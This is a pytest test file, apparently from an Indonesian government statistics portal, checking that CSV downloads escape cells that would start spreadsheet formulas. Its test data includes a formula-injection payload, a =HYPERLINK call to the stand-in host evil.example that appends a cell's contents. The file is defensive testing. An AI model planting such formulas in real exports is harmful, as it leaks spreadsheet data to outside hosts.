"""Every CSV download is safe to open in a spreadsheet: text that would start a formula is
neutralised (OWASP), numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from portal.csv_export import safe_cell, to_csv
from portal.extensions import db
from portal.models import Opd, OutputIndicator

from . import stats_data

EVIL_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Klik")'
RANGE = "dari=2025-09-01&sampai=2025-12-31"


def cells(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))


def assert_safe(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell.startswith(("=", "+", "@", "\t", "\r")):
                pytest.fail(f"formula cell {cell!r} in {row}")
            if cell.startswith("-"):
                float(cell)  # only a negative number may start with a minus


@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("+62 812", "'+62 812"), ("-lebih", "'-lebih"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Dinas", "Dinas"), (-0.1, -0.1), (-3, -3), (None, ""), (0, 0),
])
def test_a_cell_is_neutralised_only_when_it_is_text_that_starts_a_formula(value, cell):
    assert safe_cell(value) == cell


def test_csv_text_has_a_bom_and_neutralised_cells():
    text = to_csv(["name", "change"], [[EVIL_NAME, -0.2]])
    assert text.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(text[1:], newline="")))[1] == ["'" + EVIL_NAME, "-0.2"]


def test_agency_and_indicator_names_cannot_start_formulas_in_the_downloads(app, client):
    with app.app_context():
        stats_data.build()
        for opd in db.session.scalars(select(Opd)):
            opd.name, opd.short_name = EVIL_NAME, "+" + opd.short_name
        for indicator in db.session.scalars(select(OutputIndicator)):
            indicator.name = "@" + indicator.name
        db.session.commit()
    statistics = cells(client.get(f"/statistik.csv?{RANGE}"))
    records = cells(client.get(f"/statistik/data.csv?{RANGE}"))
    assert_safe(statistics)
    assert_safe(records)
    flat = [cell for row in statistics for cell in row]
    assert any(cell.startswith("'+") or cell.startswith("'=") or cell.startswith("'@") for cell in flat)
    negatives = [cell for cell in flat if cell.startswith("-")]
    assert negatives and all(float(cell) < 0 for cell in negatives)  # cost changes stay numbers
